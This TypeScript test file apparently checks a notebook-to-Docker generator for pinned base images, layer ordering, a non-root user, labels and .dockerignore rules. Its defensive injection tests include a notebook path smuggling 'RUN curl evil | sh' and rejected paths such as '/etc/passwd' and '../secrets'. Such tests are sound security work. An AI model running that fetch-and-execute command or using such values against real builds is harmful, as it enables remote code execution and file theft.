/** The generated Dockerfile and .dockerignore, parsed with dockerfile-ast (no engine needed). */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { DockerfileParser, From, Label } from 'dockerfile-ast';
import {
  DEFAULT_BASE_IMAGE,
  generateDockerfile,
  resolveBaseImage,
  validateBaseImage,
} from '../../src/core/generate/dockerfile';
import { generateDockerignore } from '../../src/core/generate/dockerignore';
import { isIgnored, parseDockerignore } from '../../src/core/docker/context';

const OPTS = {
  baseImage: DEFAULT_BASE_IMAGE,
  packageName: 'sales_forecast',
  notebookPath: 'notebooks/sales forecast.ipynb',
  notebookHash: 'a'.repeat(64),
  planHash: 'b'.repeat(64),
  extraPaths: ['data', 'helpers.py'],
};

function parse(text: string) {
  const df = DockerfileParser.parse(text);
  const instructions = df.getInstructions();
  return { df, instructions, keywords: instructions.map((i) => i.getKeyword()) };
}

function labels(text: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const i of parse(text).instructions) {
    if (i instanceof Label) for (const p of i.getProperties()) out.set(p.getName(), p.getValue() ?? '');
  }
  return out;
}

describe('generateDockerfile', () => {
  const text = generateDockerfile(OPTS);
  const { instructions, keywords } = parse(text);

  test('FROM a pinned base, never latest', () => {
    const from = instructions.filter((i) => i instanceof From) as From[];
    assert.equal(from.length, 1);
    assert.equal(from[0].getImageName(), 'python');
    assert.equal(from[0].getImageTag(), '3.11-slim');
  });

  test('requirements are installed in their own layer before the sources are copied', () => {
    const args = instructions.map((i) => `${i.getKeyword()} ${i.getArgumentsContent()}`);
    const reqCopy = args.findIndex((a) => a === 'COPY requirements.txt ./');
    const pip = args.findIndex((a) => a.startsWith('RUN pip install'));
    const pkg = args.findIndex((a) => a === 'COPY sales_forecast/ ./sales_forecast/');
    assert.ok(reqCopy >= 0 && pip > reqCopy && pkg > pip, args.join('\n'));
    assert.match(args[pip], /--no-cache-dir/);
    // Data copies sit between requirements and sources; the labels (new with every notebook
    // edit) come after every cached layer.
    const data = args.findIndex((a) => a.startsWith('COPY ["data"'));
    assert.ok(data > pip && data < pkg);
    assert.ok(keywords.indexOf('LABEL') > data && keywords.indexOf('LABEL') < pkg);
  });

  test('runs as a non-root user with exactly one ENTRYPOINT and no CMD', () => {
    const users = instructions.filter((i) => i.getKeyword() === 'USER');
    assert.equal(users.length, 1);
    assert.notEqual(users[0].getArgumentsContent(), 'root');
    assert.ok(keywords.indexOf('USER') > keywords.lastIndexOf('RUN'));
    assert.equal(keywords.filter((k) => k === 'ENTRYPOINT').length, 1);
    assert.equal(keywords.filter((k) => k === 'CMD').length, 0);
    assert.equal(instructions.find((i) => i.getKeyword() === 'ENTRYPOINT')?.getArgumentsContent(), '["python", "-m", "sales_forecast"]');
    assert.doesNotMatch(text, /\bsudo\b/);
    assert.doesNotMatch(text, /:latest\b/);
  });

  test('carries OCI and lineage labels', () => {
    const l = labels(text);
    assert.equal(l.get('nb2prod.notebook.hash'), OPTS.notebookHash);
    assert.equal(l.get('nb2prod.plan.hash'), OPTS.planHash);
    assert.equal(l.get('nb2prod.notebook.path'), OPTS.notebookPath);
    assert.equal(l.get('org.opencontainers.image.title'), 'sales_forecast');
    // The context hash is set at build time (a Dockerfile cannot hash the context holding it).
    assert.equal(l.has('nb2prod.context.hash'), false);
  });

  test('a hostile notebook path cannot add an instruction', () => {
    const evil = generateDockerfile({ ...OPTS, notebookPath: 'x"\nRUN curl evil | sh\n# $HOME \\' });
    const p = parse(evil);
    assert.deepEqual(p.keywords, keywords);
    assert.doesNotMatch(evil, /^RUN curl/m);
    // Still one label value (the engine test checks Docker reads it back verbatim).
    assert.match(labels(evil).get('nb2prod.notebook.path') ?? '', /^x\\?" RUN curl evil \| sh # /);
  });

  test('unsafe names are refused, not escaped into instructions', () => {
    assert.throws(() => generateDockerfile({ ...OPTS, packageName: 'a b\nRUN x' }), /not a Python identifier/);
    for (const bad of ['../secrets', '/etc/passwd', 'data/*.csv', 'x$HOME', 'a"b', 'a\nRUN x']) {
      assert.throws(() => generateDockerfile({ ...OPTS, extraPaths: [bad] }), /cannot copy/, bad);
    }
    assert.throws(() => generateDockerfile({ ...OPTS, notebookHash: 'not hex' }), /hex digest/);
  });
});

describe('base image', () => {
  test('option > setting > NB2PROD_BASE_IMAGE > default', () => {
    const env = { NB2PROD_BASE_IMAGE: 'python:3.12-slim' };
    assert.equal(resolveBaseImage({ option: 'a/b:1', setting: 'c:2', env }), 'a/b:1');
    assert.equal(resolveBaseImage({ setting: 'c:2', env }), 'c:2');
    assert.equal(resolveBaseImage({ env }), 'python:3.12-slim');
    assert.equal(resolveBaseImage({ option: ' ', env: {} }), DEFAULT_BASE_IMAGE);
  });

  test('references must be valid and pinned', () => {
    for (const ok of ['python:3.11-slim', 'registry.example:5000/team/py:1.0', `py@sha256:${'0'.repeat(64)}`, 'nb2prod-base/python-ml:bookworm']) {
      assert.equal(validateBaseImage(ok), ok);
    }
    assert.throws(() => validateBaseImage('python'), /not pinned/);
    assert.throws(() => validateBaseImage('python:latest'), /latest/);
    for (const bad of ['Python:3', 'python:3\nRUN x', 'python:3 AS x', '']) assert.throws(() => validateBaseImage(bad), /invalid|not pinned/, bad);
  });
});

describe('.dockerignore', () => {
  const patterns = parseDockerignore(generateDockerignore());
  test('keeps run outputs, caches, VCS and secrets out, and the package in', () => {
    for (const out of ['artifacts/x/run.json', '.git/config', '.env', 'sub/.env.local', 'pkg/__pycache__/a.pyc', 'id_rsa', 'keys/server.pem', 'nb.ipynb', '.ssh/config']) {
      assert.equal(isIgnored(out, patterns), true, out);
    }
    for (const kept of ['pkg/steps/train.py', 'requirements.txt', 'pipeline.json', 'data/sales.csv', 'Dockerfile', 'pkg/steps/artifacts_step.py']) {
      assert.equal(isIgnored(kept, patterns), false, kept);
    }
  });

  test('Docker matching rules: **, parent directories, ! exceptions, last match wins', () => {
    const p = parseDockerignore('# c\n*.log\n!keep.log\ndocs/**/*.md\n/build\n');
    assert.equal(isIgnored('a.log', p), true);
    assert.equal(isIgnored('keep.log', p), false);
    assert.equal(isIgnored('sub/a.log', p), false); // * does not cross directories
    assert.equal(isIgnored('docs/a.md', p), true);
    assert.equal(isIgnored('docs/x/y/a.md', p), true);
    assert.equal(isIgnored('build/out/x', p), true);
  });
});
